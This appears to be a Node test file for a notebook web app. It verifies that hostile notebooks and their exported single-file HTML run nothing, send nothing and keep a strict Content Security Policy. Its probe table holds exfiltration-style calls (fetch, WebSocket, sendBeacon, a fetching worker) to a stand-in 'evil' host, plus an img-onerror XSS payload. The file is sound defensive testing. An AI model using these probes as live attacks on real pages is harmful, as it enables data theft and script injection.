// Notebooks that were written to do harm, opened in the product and in the single file that it exports: no dialog, no request, no trace.
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { mkdir } from "node:fs/promises";
import path from "node:path";
import { after, before, describe, it } from "node:test";
import { pathToFileURL } from "node:url";
import { hostileCode, hostileNotebooks, hostileTitle } from "../fixtures/hostile/notebooks.mjs";
import { openSite } from "./site.mjs";

const folder = path.resolve("build/standalone");
const probes = {
  "fetch": "fetch('%EVIL%fetch')", "XMLHttpRequest": "new Promise((yes, no) => { const r = new XMLHttpRequest(); r.open('GET', '%EVIL%xhr'); r.onload = yes; r.onerror = () => no(new Error('no')); r.send(); })",
  "WebSocket": "new Promise((yes, no) => { const s = new WebSocket('%EVIL%ws'.replace('http', 'ws')); s.onopen = yes; s.onerror = () => no(new Error('no')); })",
  "EventSource": "new Promise((yes, no) => { const s = new EventSource('%EVIL%es'); s.onopen = yes; s.onerror = () => no(new Error('no')); })",
  "importScripts": "importScripts('%EVIL%is.js')", "dynamic import": "import('%EVIL%di.js')", "import of data": "import('data:text/javascript,export default 1')",
  "WebTransport": "new WebTransport('https://127.0.0.1:9/').ready", "RTCPeerConnection": "new RTCPeerConnection()", "sendBeacon": "navigator.sendBeacon('%EVIL%sb') || Promise.reject(new Error('no'))",
  "own server": "fetch('%HOME%index.html')", "eval": "(0, eval)('1')", "Function": "new Function('return 1')()",
  "a worker that asks": "new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob([\"fetch('%EVIL%nw').then(() => postMessage(1), () => postMessage(0))\"]))); w.onmessage = ({data}) => data ? yes() : no(new Error('no')); w.onerror = () => no(new Error('no')); })",
  "localStorage": "localStorage.length", "sessionStorage": "sessionStorage.length", "indexedDB": "new Promise((yes, no) => { const r = indexedDB.open('atnet-notebook'); r.onsuccess = yes; r.onerror = () => no(r.error); })",
  "caches": "caches.keys()", "storage": "navigator.storage.getDirectory()", "cookies": "cookieStore.getAll()", "parent": "parent.document", "top": "top.location.href", "opener": "opener.document", "page": "frames[0]",
  "a font": "(() => { const f = new FontFace('x', 'url(%EVIL%font)'); return f.load(); })()",
};

describe("hostile notebooks", { timeout: 900_000 }, () => {
  let site;
  let evil;
  const asked = [];
  before(async () => {
    evil = createServer((request, response) => { asked.push(request.url); response.writeHead(200, { "access-control-allow-origin": "*" }); response.end(""); });
    await new Promise((resolve) => { evil.listen(0, "127.0.0.1", resolve); });
    site = await openSite();
  });
  after(async () => {
    await site?.close();
    evil?.close();
  });

  const armed = (text) => text.replaceAll("%EVIL%", `http://127.0.0.1:${evil.address().port}/`).replaceAll("%HOME%", site.address);
  /** Writes down all that would be a success of the attacker. */
  async function watch(page) {
    const harm = [];
    page.on("dialog", (dialog) => { harm.push(`dialog ${dialog.message()}`); void dialog.dismiss(); });
    page.on("popup", () => harm.push("a window"));
    page.on("request", (request) => { if (!/^(?:data|blob|file):/.test(request.url()) && !request.url().startsWith(site.address)) harm.push(`request ${request.url().slice(0, 100)}`); });
    page.on("worker", (worker) => { if (!worker.url().startsWith(site.address)) harm.push(`worker ${worker.url()}`); });
    page.on("frameattached", () => harm.push("a frame"));
    return harm;
  }
  const globals = (page) => page.evaluate(() => [...Object.getOwnPropertyNames(globalThis), ...Object.getOwnPropertyNames(Object.prototype), ...Object.keys(localStorage)].sort());
  async function openText(page, text) {
    await page.evaluate(() => { location.hash = "#/"; });
    await page.locator("at-start-page").waitFor();
    await page.evaluate((content) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([content], "gift.html", { type: "text/html" }));
      dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, cancelable: true }));
    }, text);
    await page.locator("at-notebook at-cell").first().waitFor();
  }
  /** Every cell is brought near the screen, so that all that would be drawn is drawn. */
  async function readThrough(page) {
    await page.evaluate(async () => {
      const cells = (document.querySelector("at-app")?.shadowRoot ?? document).querySelector("at-notebook").shadowRoot.querySelectorAll("at-cell");
      for (const cell of cells) { cell.scrollIntoView(); await new Promise((resolve) => { setTimeout(resolve, 15); }); }
      await new Promise((resolve) => { setTimeout(resolve, 800); });
    });
  }

  for (const [family, text] of Object.entries(hostileNotebooks)) {
    it(`P10: of ${family} run nothing and send nothing`, async () => {
      const { page, close } = await site.open();
      await page.locator("at-start-page").waitFor();
      const before = await globals(page);
      const harm = await watch(page);
      await openText(page, armed(text));
      await readThrough(page);
      assert.deepEqual(harm, []);
      assert.deepEqual(asked, []);
      assert.deepEqual((await globals(page)).filter((name) => !before.includes(name)), []);
      assert.equal(await page.evaluate(() => document.querySelectorAll("iframe, script:not([src^=assets])").length), 0);
      await close();
    });
  }

  it("P12: hold code that reaches nothing when it is trusted either, and the page after it is as before", async () => {
    const { page, close } = await site.open();
    await page.locator("at-start-page").waitFor();
    const before = await globals(page);
    const cells = Object.entries(probes).map(([, code], i) => `  <script id="${i + 1}" type="module">\n    const p${i} = await Promise.race([(async () => { try { await (${code}); return "reached"; } catch (error) { return "refused: " + error.name; } })(), new Promise((yes) => setTimeout(yes, 3000, "refused: silence"))]);\n  </script>`);
    const hostile = hostileCode.map((code, i) => `  <script id="${100 + i}" type="module">\n    ${code}\n  </script>`);
    const harm = await watch(page);
    await openText(page, armed(`<!doctype html>\n<notebook>\n  <title>Probes</title>\n${cells.join("\n")}\n${hostile.join("\n")}\n  <script id="200" type="text/markdown">\n    <img src=x onerror="globalThis.pwned=1"> still clean\n  </script>\n</notebook>\n`));
    await page.getByRole("button", { name: "Trust this notebook" }).waitFor();
    assert.deepEqual(harm, [], "nothing ran, not even the frame was made");
    await page.getByRole("button", { name: "Trust this notebook" }).click();
    // A name that a worker does not have fails its cell before anything runs; every other probe says what became of it.
    const outcomes = () => page.evaluate(() => [...document.querySelector("at-app").shadowRoot.querySelector("at-notebook").shadowRoot.querySelectorAll("at-code")]
      .map((cell) => Object.entries(cell.value).find(([name]) => /^p\d+$/.test(name))?.[1] ?? cell.shadowRoot.querySelector(".problem")?.textContent ?? ""));
    const names = Object.keys(probes);
    const until = Date.now() + 120_000;
    let told = await outcomes();
    while (told.slice(0, names.length).includes("") && Date.now() < until) { await page.waitForTimeout(250); told = await outcomes(); }
    const reached = names.flatMap((name, i) => (/^refused|ReferenceError: \w+ is not defined$/.test(told[i]) ? [] : [`${name}: ${told[i]}`]));
    assert.deepEqual(reached, []);
    await readThrough(page);
    assert.deepEqual(asked, []);
    // The frame and its workers are ours. A request that the policy stops is told here too: the server that it was for has heard none.
    assert.deepEqual(harm.filter((one) => one !== "a frame" && !one.startsWith("worker blob:null/") && !one.startsWith(`request ${armed("%EVIL%")}`)), []);
    const now = (await globals(page)).filter((name) => !before.includes(name) && !/^at-(?:trusted|unfinished)$/.test(name) && name !== "0");
    assert.deepEqual(now, []);
    await page.getByText("still clean").waitFor();
    assert.equal(await page.evaluate(() => document.querySelector("at-app").shadowRoot.querySelector("at-notebook").shadowRoot.querySelectorAll("at-prose img[onerror]").length), 0);
    await close();
  });

  it("P27: stay harmless in the single file that is exported from them", async () => {
    await mkdir(folder, { recursive: true });
    const { page, close } = await site.open();
    await page.locator("at-start-page").waitFor();
    const cells = Object.values(hostileNotebooks).flatMap((text) => [...armed(text).matchAll(/<script id="\d+" type="([^"]*)"[^>]*>\n([\s\S]*?)\n {2}<\/script>/g)].map(([, type, source]) => ({ type, source })));
    assert.ok(cells.length > 100);
    await openText(page, `<!doctype html>\n<notebook>\n  <title>Gift</title>\n${cells.map(({ type, source }, i) => `  <script id="${i + 1}" type="${type}">\n${source}\n  </script>`).join("\n")}\n</notebook>\n`);
    const title = page.getByRole("textbox", { name: "Notebook title" });
    await title.fill(hostileTitle);
    await title.press("Enter");
    await page.getByRole("button", { name: "Export", exact: true }).click();
    const [given] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download: One file that runs anywhere" }).click()]);
    const file = path.join(folder, "hostile.run.html");
    await given.saveAs(file);
    await close();

    const { page: alone, requests, errors, end } = await site.openFile(pathToFileURL(file).href);
    const harm = await watch(alone);
    await alone.reload();
    await alone.locator("at-notebook at-cell").first().waitFor();
    await readThrough(alone);
    // The file's own workers are texts in it: they prepare the data of its cells.
    assert.deepEqual(harm.filter((one) => !one.startsWith("worker blob:null/")), []);
    assert.deepEqual(requests, []);
    assert.deepEqual(asked, []);
    assert.deepEqual(await alone.evaluate(() => [globalThis.pwned, Object.prototype.pwned, document.querySelectorAll("iframe, img[src=x]").length, document.title.includes("AT-NOTEBOOK")]), [undefined, undefined, 0, true]);
    assert.deepEqual(errors.filter((text) => !/Content Security Policy/.test(text)), []);
    const policy = await alone.locator("meta[http-equiv=Content-Security-Policy]").getAttribute("content");
    for (const rule of ["default-src 'none'", "require-trusted-types-for 'script'", "base-uri 'none'", "form-action 'none'"]) assert.ok(policy.includes(rule), rule);
    assert.doesNotMatch(policy, /script-src[^;]*(?:'unsafe-inline'|'unsafe-eval'|\bhttps?:|\*)/);
    await end();
  });

  it("cannot make the page's policy weaker: text as HTML, eval and a worker of text are refused in it", async () => {
    const { page, close } = await site.open();
    // Inside the page: what `evaluate` itself runs is not bound by the policy.
    const refused = await page.evaluate(() => new Promise((resolve) => {
      const result = {};
      const attempt = (name, action) => { try { action(); result[name] = "allowed"; } catch (error) { result[name] = error.name; } };
      setTimeout(() => {
        attempt("innerHTML", () => { document.createElement("div").innerHTML = "<b>x</b>"; });
        attempt("worker", () => new Worker(URL.createObjectURL(new Blob(["1"]))));
        attempt("srcdoc", () => { document.createElement("iframe").srcdoc = "x"; });
        attempt("policy", () => { globalThis.trustedTypes.createPolicy("mine", {}); });
        resolve(result);
      });
    }));
    assert.deepEqual(refused, { innerHTML: "TypeError", worker: "TypeError", srcdoc: "TypeError", policy: "TypeError" });
    await close();
  });
});
